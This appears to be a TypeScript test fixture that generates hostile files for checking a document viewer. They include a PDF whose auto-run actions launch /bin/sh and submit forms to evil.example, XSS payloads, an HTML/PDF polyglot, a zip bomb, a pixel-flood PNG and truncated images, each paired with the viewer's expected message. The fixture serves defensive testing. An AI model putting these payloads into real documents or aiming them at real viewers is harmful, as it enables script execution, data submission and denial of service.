import { crc32, deflateRawSync, deflateSync } from 'node:zlib'
import { type PDFDocument, PDFName, PDFString } from 'pdf-lib'
import { pdfWith } from './documents-page.ts'

const SCRIPT = 'app.alert("run"); this.submitForm("https://evil.example")'

/** All active content of a PDF: scripts, launched programs, web addresses, embedded files, submitted forms. */
const activePdf = () =>
  pdfWith(1, pdf => {
    const { context, catalog } = pdf
    const actions = {
      JavaScript: { S: 'JavaScript', JS: PDFString.of(SCRIPT) },
      Launch: { S: 'Launch', F: PDFString.of('/bin/sh') },
      URI: { S: 'URI', URI: PDFString.of('https://evil.example') },
      SubmitForm: { S: 'SubmitForm', F: PDFString.of('https://evil.example') },
      GoToR: { S: 'GoToR', F: PDFString.of('https://evil.example/other.pdf'), D: [0, 'Fit'] },
    }
    const chain = Object.values(actions).reduceRight<object | undefined>(
      (next, action) => ({ ...action, ...(next && { Next: next }) }),
      undefined,
    )
    catalog.set(PDFName.of('OpenAction'), context.obj(JSON_TO_PDF(chain)))
    catalog.set(PDFName.of('AA'), context.obj(JSON_TO_PDF({ WC: actions.JavaScript })))
    pdf.addJavaScript('start', SCRIPT)
    const page = pdf.getPage(0)
    page.node.set(PDFName.of('AA'), context.obj(JSON_TO_PDF({ O: actions.JavaScript })))
    const link = { Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 300, 400], A: actions.Launch }
    page.node.set(PDFName.of('Annots'), context.obj([JSON_TO_PDF(link)]))
  })

/** pdf-lib takes plain objects; this only says so to the compiler. */
const JSON_TO_PDF = (value: unknown): Parameters<PDFDocument['context']['obj']>[0] & object => Object(value)

/** A PDF by hand: objects, a table of where they are, a trailer. */
const rawPdf = (objects: readonly string[], trailer = '') => {
  let text = '%PDF-1.4\n'
  const offsets = objects.map((object, index) => {
    const offset = text.length
    text += `${index + 1} 0 obj\n${object}\nendobj\n`
    return offset
  })
  const table = offsets.map(offset => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  const size = objects.length + 1
  const end = `trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${text.length}\n%%EOF`
  return Buffer.from(`${text}xref\n0 ${size}\n0000000000 65535 f \n${table}${end}`, 'latin1')
}

const CATALOG = '<< /Type /Catalog /Pages 2 0 R >>'
const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>'

const manyPages = (count: number) =>
  rawPdf([CATALOG, `<< /Type /Pages /Count ${count} /Kids [${'3 0 R '.repeat(count)}] >>`, PAGE])

const encryptedPdf = () => {
  const key = `<${'ab'.repeat(32)}>`
  const encrypt = `<< /Filter /Standard /V 1 /R 2 /O ${key} /U ${key} /P -4 >>`
  const pages = '<< /Type /Pages /Count 1 /Kids [3 0 R] >>'
  return rawPdf([CATALOG, pages, PAGE, encrypt], '/Encrypt 4 0 R /ID [<00><00>]')
}

/** A Word file of some kilobytes that would be 200 MB if anything unpacked it. */
const zipBomb = () => {
  const name = Buffer.from('word/document.xml')
  const packed = deflateRawSync(Buffer.alloc(200 * 2 ** 20))
  const header = Buffer.alloc(30)
  header.write('PK\x03\x04', 'latin1')
  header.writeUInt16LE(8, 8)
  header.writeUInt32LE(packed.length, 18)
  header.writeUInt32LE(200 * 2 ** 20, 22)
  header.writeUInt16LE(name.length, 26)
  return Buffer.concat([header, name, packed])
}

const pngChunk = (name: string, content: Buffer) => {
  const body = Buffer.concat([Buffer.from(name), content])
  const sized = Buffer.alloc(8 + body.length)
  sized.writeUInt32BE(content.length)
  body.copy(sized, 4)
  sized.writeUInt32BE(crc32(body), 4 + body.length)
  return sized
}

const png = (width: number, height: number, data: Buffer) => {
  const size = Buffer.from([0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0])
  size.writeUInt32BE(width)
  size.writeUInt32BE(height, 4)
  const head = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1')
  return Buffer.concat([
    head,
    pngChunk('IHDR', size),
    pngChunk('IDAT', deflateSync(data)),
    pngChunk('IEND', Buffer.alloc(0)),
  ])
}

/** A few kilobytes that would be 14 GB of pixels. */
const pixelFlood = () => png(60_000, 60_000, Buffer.alloc(7501 * 2000))

const HTML = '<script>alert("run")</script><img src=x onerror=alert("run")>'

/** Each file under its name, and what the viewer says of it: the words of a message, or the number of pages. */
export const hostileFiles = async (): Promise<[name: string, content: Buffer, shows: string | number][]> => [
  ['active.pdf', await activePdf(), 1],
  ['polyglot.html', Buffer.concat([Buffer.from(`<html>${HTML}<!--`), await pdfWith(1)]), 1],
  ['markup.txt', Buffer.from(`<!-- a comment --><svg onload=alert(1)>${HTML}</svg>`), 'onload=alert(1)'],
  ['encrypted.pdf', encryptedPdf(), 'This PDF is protected with a password'],
  ['pages.pdf', manyPages(100_000), 100_000],
  ['bomb.docx', zipBomb(), 'This type of file cannot be shown here.'],
  ['flood.png', pixelFlood(), 'This picture is too large to be shown here.'],
  ['cut.pdf', (await pdfWith(3)).subarray(0, 300), 'This file is damaged and cannot be shown.'],
  ['cut.png', png(8, 8, Buffer.alloc(16)).subarray(0, 40), 'This file is damaged and cannot be shown.'],
  ['cut.jpg', Buffer.from('ffd8ffe000104a464946000101', 'hex'), 'This file is damaged and cannot be shown.'],
  ['cut.webp', Buffer.from('RIFF\x10\0\0\0WEBPVP8 ', 'latin1'), 'This file is damaged and cannot be shown.'],
  ['cut.tiff', Buffer.from('II*\0\x08\0\0\0', 'latin1'), 'This type of file cannot be shown here.'],
]
